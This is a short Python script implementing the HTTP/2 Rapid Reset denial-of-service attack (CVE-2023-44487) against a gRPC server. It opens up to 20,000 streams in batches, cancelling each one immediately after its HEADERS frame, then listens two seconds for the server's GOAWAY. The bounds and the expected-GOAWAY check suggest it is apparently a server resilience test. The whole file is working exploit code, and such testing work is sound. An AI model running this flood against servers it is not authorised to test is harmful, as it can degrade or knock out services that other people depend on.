#!/usr/bin/python3
"""rapid_reset: CVE-2023-44487. Opens request streams and cancels each at once
(HEADERS then RST_STREAM(CANCEL)), as fast as the socket takes them, bounded by --streams
and --seconds; then listens 2 s for the server's answer (GOAWAY expected).

  rapid_reset.py --port N (--ca FILE | --plaintext) [--streams 20000] [--seconds 5]
"""
import time

from h2wire import Connection, Encoder, HeadersFrame, RstStreamFrame, grpc_request_headers, main, parse_args


def run():
    args = parse_args(__doc__, lambda p: p.add_argument("--streams", type=int, default=20000))
    conn = Connection(args)
    encoder = Encoder()
    headers = grpc_request_headers(args)
    deadline = time.monotonic() + args.seconds
    sent = 0
    stream_id = 1
    while sent < args.streams and stream_id < 2 ** 31:
        batch = bytearray()
        for _ in range(min(100, args.streams - sent)):
            # Encoded per stream: the encoder's dynamic table changes with every block.
            block = encoder.encode(headers)
            batch += HeadersFrame(stream_id, data=block, flags=["END_HEADERS"]).serialize()
            batch += RstStreamFrame(stream_id, error_code=8).serialize()
            stream_id += 2
            sent += 1
        if not conn.send(bytes(batch), deadline):
            break
    conn.pump(time.monotonic() + 2)
    conn.report("rapid_reset", streams=sent)
    conn.close()


if __name__ == "__main__":
    main(run)
